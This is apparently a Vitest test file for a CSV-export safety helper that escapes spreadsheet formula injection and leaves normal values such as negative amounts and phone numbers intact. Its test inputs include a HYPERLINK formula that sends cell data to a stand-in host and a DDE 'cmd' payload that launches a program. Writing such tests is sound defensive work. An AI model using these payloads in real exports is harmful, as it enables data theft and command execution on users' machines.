import { describe, expect, it } from 'vitest';
import { neutraliseFormula, neutraliseRow } from './csv-safety.ts';

describe('neutraliseFormula', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?d="&A1;"clic")', `'=HYPERLINK("http://x.example/?d="&A1;"clic")`],
    ['+1+1', "'+1+1"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ['   =1+1', "'   =1+1"],
    ['+33612345678', "'+33612345678"], // kept as text, so Excel does not drop the '+'
    ['-', "'-"],
    ['-12,50 €', "'-12,50 €"],
    ['-1+1', "'-1+1"],
  ])('neutralises %j', (cell, expected) => {
    expect(neutraliseFormula(cell)).toBe(expected);
  });

  it.each(['-12,50', '-12.50', '-1 234,56', '-1\u00a0234,56', '-7', 'Dupont', 'jean@exemple.fr', '06 12 34 56 78', 'a=b', ''])('leaves %j intact', (cell) => {
    expect(neutraliseFormula(cell)).toBe(cell);
  });

  it('handles non-string cells and whole rows', () => {
    expect(neutraliseFormula(-12.5)).toBe('-12.5');
    expect(neutraliseFormula(null)).toBe('');
    expect(neutraliseFormula(undefined)).toBe('');
    expect(neutraliseRow(['=1', 'ok', 3, true])).toEqual(["'=1", 'ok', '3', 'true']);
  });
});
